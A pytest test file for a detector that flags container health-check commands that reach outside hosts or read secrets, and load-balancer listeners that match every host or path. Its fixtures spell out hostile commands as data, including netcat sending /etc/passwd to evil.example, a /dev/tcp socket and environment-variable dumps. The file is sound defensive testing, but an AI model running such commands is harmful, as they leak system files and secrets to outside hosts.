"""What a command in a container does beyond asking the container itself."""

from __future__ import annotations

import pytest

from bidops_cfn.model import Listener
from bidops_cfn.spec.concerns import command_concern, takes_all

URL = "http://127.0.0.1:3000/api/health"


@pytest.mark.parametrize(
    ("script", "concern"),
    [
        (f"curl -f {URL} && curl -f https://evil.example/", "talks to evil.example"),
        ("curl -f https://u:p@evil.example:8443/", "talks to evil.example:8443"),
        ("exec 3<>/dev/tcp/evil.example/80", "talks to evil.example"),
        ("ping -c1 198.51.100.7", "talks to 198.51.100.7"),
        ("nc evil.example 80 < /etc/passwd", "runs nc, which talks to any host"),
        (f"curl -f {URL} -H $SESSION_SECRET", "reads variables, where the secrets are"),
        (f"env > /tmp/x; curl -f {URL}", "reads variables, where the secrets are"),
        ("node -e 'console.log(process.env)'", "reads variables, where the secrets are"),
        ("python -c 'import os;print(os.environ)'", "reads variables, where the secrets are"),
    ],
)
def test_a_command_that_does_more_needs_an_eye(script: str, concern: str) -> None:
    assert command_concern(("CMD-SHELL", script)) == concern


@pytest.mark.parametrize(
    "script",
    [
        f"curl -f {URL} || exit 1",
        "curl -f http://localhost:$PORT/ping",
        "curl -f http://localhost:${PORT}/ping",
        "nc -z 127.0.0.1 3000",
        "wget -q http://[::1]:3000/",
        "import urllib.request as r;r.urlopen('http://127.0.0.1:8080/ping',timeout=4)",
        "fetch('http://127.0.0.1:'+process.env.PORT)",
        "/app/healthcheck",
    ],
)
def test_a_command_that_asks_the_container_needs_none(script: str) -> None:
    assert command_concern(("CMD-SHELL", script)) == ""


@pytest.mark.parametrize(
    ("listener", "everything"),
    [
        (Listener(1, ("dev.bidopsai.example",)), False),
        (Listener(1, ("*.dev.bidopsai.example",)), False),
        (Listener(1, ("*.example",)), True),
        (Listener(1, ("*",)), True),
        (Listener(1, ("dev.bidopsai.example", "*.example")), True),
        (Listener(1, (), ("/*",)), True),
        (Listener(1, (), ("/*", "/x")), True),
        (Listener(1, (), ("/api/*",)), False),
        (Listener(1, ("dev.bidopsai.example",), ("/*",)), False),
    ],
)
def test_a_listener_that_takes_the_requests_of_others(listener: Listener, everything: bool) -> None:
    assert takes_all(listener) is everything
